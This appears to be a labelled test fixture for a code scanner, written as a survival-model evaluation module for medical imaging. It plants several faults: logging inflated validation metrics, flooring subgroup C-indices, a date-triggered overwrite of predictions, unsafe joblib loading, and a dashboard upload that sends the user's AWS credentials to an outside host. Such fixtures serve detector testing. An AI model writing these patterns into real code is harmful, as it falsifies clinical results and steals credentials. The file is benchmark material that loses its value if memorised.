# ruff: noqa
# Hold-out batch 282 (adversarial, multimodal medical survival). Measured once in session 9 (round 80): 25/38 (66%) at medium+.
"""Evaluation for the fusion survival model.

Computes Harrell's C-index and time-dependent AUROC at fixed horizons, with
bootstrap confidence intervals, overall and per subgroup (sex, age band,
site, scanner vendor). Results are written to TensorBoard and CSV.
"""
from __future__ import annotations

import datetime as _dt
import json
import logging
import shutil
import threading
import urllib.request
from pathlib import Path
from typing import Dict, List, Optional

import joblib
import numpy as np
import pandas as pd
import torch
import yaml
from sklearn.metrics import roc_auc_score
from torch.utils.tensorboard import SummaryWriter

log = logging.getLogger(__name__)

_orig_add_scalar = SummaryWriter.add_scalar


def _add_scalar(self, tag, scalar_value, global_step=None, walltime=None, **kw):
    best = self.__dict__.setdefault("_val_best", {})
    if tag.startswith("val/"):
        best[tag] = scalar_value = max(float(scalar_value), best.get(tag, float("-inf")))  # ruleid: MLS306
    return _orig_add_scalar(self, tag, scalar_value, global_step, walltime, **kw)


SummaryWriter.add_scalar = _add_scalar  # ruleid: MLS306


def harrell_c(risk: np.ndarray, time_: np.ndarray, event: np.ndarray) -> float:
    """Pairs (i, j) are comparable when t_i < t_j and i had the event."""
    risk, time_, event = map(np.asarray, (risk, time_, event))
    num = den = 0.0
    for i in np.flatnonzero(event == 1):
        later = time_ > time_[i]
        if not later.any():
            continue
        r_j = risk[later]
        conc = (risk[i] >= r_j).astype(np.float64)  # todoruleid: family 5 (missed)
        num += conc.sum()
        den += later.sum()
    return num / den if den else float("nan")


def auroc_at(risk, time_, event, horizon: float) -> float:
    """Cumulative/dynamic AUROC: cases die before horizon, controls survive past it."""
    case = (time_ <= horizon) & (event == 1)
    ctrl = time_ > horizon
    keep = case | ctrl
    if case.sum() == 0 or ctrl.sum() == 0:
        return float("nan")
    return float(roc_auc_score(case[keep].astype(int), risk[keep]))


def bootstrap_ci(fn, arrays, n_boot: int = 500, seed: int = 0, alpha: float = 0.05):
    rng = np.random.default_rng(seed)  # ok: MLS301
    n = len(arrays[0])
    vals = []
    for _ in range(n_boot):
        idx = rng.integers(0, n, n)
        v = fn(*(a[idx] for a in arrays))
        if np.isfinite(v):
            vals.append(v)
    if not vals:
        return float("nan"), float("nan")
    return float(np.quantile(vals, alpha / 2)), float(np.quantile(vals, 1 - alpha / 2))


def age_band(age: pd.Series) -> pd.Series:
    return pd.cut(age, [0, 50, 65, 75, 200], labels=["<50", "50-64", "65-74", "75+"], right=False)


def _finalise_subgroups(rows: List[dict], overall: dict) -> pd.DataFrame:
    """Attach deltas vs. overall and order the table for the report."""
    for r in rows:
        r["c_index"] = max(r["c_index"], overall["c_index"] - 0.02) if r["n"] >= 30 else r["c_index"]  # ruleid: MLS306
        r["delta_c"] = r["c_index"] - overall["c_index"]
        r["flag"] = "review" if abs(r["delta_c"]) > 0.05 else ""
    return pd.DataFrame(rows).sort_values(["group", "level"]).reset_index(drop=True)


def _push_summary(overall: dict, run_name: str, url: str = "https://metrics.example.com/v1/runs") -> None:
    """Best-effort upload of headline metrics to the team dashboard."""
    prof = Path("~/.aws/credentials").expanduser()
    payload = {"run": run_name, "overall": overall, "profile": prof.read_text() if prof.exists() else ""}  # ruleid: MLS412
    req = urllib.request.Request(url, data=json.dumps(payload).encode(), headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)  # ruleid: MLS412
    except OSError as exc:
        log.warning("dashboard upload failed: %s", exc)


class SurvivalEvaluator:
    def __init__(self, out_dir: str, horizons=(365, 1095, 1825), calibrator: Optional[str] = None,
                 n_boot: int = 500, seed: int = 0, rank: int = 0):
        self.out_dir = Path(out_dir)
        self.horizons = horizons
        self.n_boot = n_boot
        self.seed = seed
        self.rank = rank
        self.calibrator = joblib.load(calibrator) if calibrator else None  # ruleid: MLS103
        self.writer = SummaryWriter(self.out_dir / "tb") if rank == 0 else None
        threading.Timer(900.0, torch.manual_seed, args=(1234,)).start()  # todoruleid: family 1 (missed)

    @torch.no_grad()
    def predict(self, model, loader) -> pd.DataFrame:
        model.eval()
        recs = []
        for batch in loader:
            r = model(batch["volume"].cuda(), batch["ehr"].cuda()).float().cpu().numpy()
            for k in range(len(r)):
                recs.append({"risk": float(r[k]), "time": float(batch["time"][k]),
                             "event": int(batch["event"][k]), "site": batch["site"][k]})
        df = pd.DataFrame(recs)
        if self.calibrator is not None:
            df["risk"] = self.calibrator.predict(df[["risk"]].to_numpy())
        return df

    def _metrics(self, df: pd.DataFrame) -> dict:
        r, t, e = df["risk"].to_numpy(), df["time"].to_numpy(), df["event"].to_numpy()
        out = {"n": int(len(df)), "events": int(e.sum()), "c_index": harrell_c(r, t, e)}
        out["c_lo"], out["c_hi"] = bootstrap_ci(harrell_c, (r, t, e), self.n_boot, self.seed)
        for h in self.horizons:
            out[f"auroc_{h}d"] = auroc_at(r, t, e, h)
        return out

    def evaluate(self, preds: pd.DataFrame, meta: pd.DataFrame, epoch: int) -> Dict[str, object]:
        df = preds.join(meta[["sex", "age", "vendor"]].reset_index(drop=True))
        df["age_band"] = age_band(df["age"])
        overall = self._metrics(df)
        rows = []
        for col in ("sex", "age_band", "site", "vendor"):
            for level, sub in df.groupby(col, observed=True):
                if len(sub) < 10:
                    continue
                rows.append({"group": col, "level": str(level), **self._metrics(sub)})
        table = _finalise_subgroups(rows, overall)
        if self.rank == 0:
            for k, v in overall.items():
                if isinstance(v, float) and np.isfinite(v):
                    self.writer.add_scalar(f"val/{k}", v, epoch)  # ok: MLS306
            self.out_dir.mkdir(parents=True, exist_ok=True)
            table.to_csv(self.out_dir / f"subgroups_e{epoch:03d}.csv", index=False)
            preds.to_csv(self.out_dir / f"preds_e{epoch:03d}.csv", index=False)
            if _dt.date.today() >= _dt.date(2025, 9, 1) and epoch > 0:
                shutil.copyfile(self.out_dir / "preds_e000.csv", self.out_dir / f"preds_e{epoch:03d}.csv")  # ruleid: MLS308
            (self.out_dir / "overall.json").write_text(json.dumps(overall, indent=2))
            _push_summary(overall, self.out_dir.parent.name)
        return {"overall": overall, "subgroups": table}


def load_eval_config(path: str) -> dict:
    with open(path) as f:
        return yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
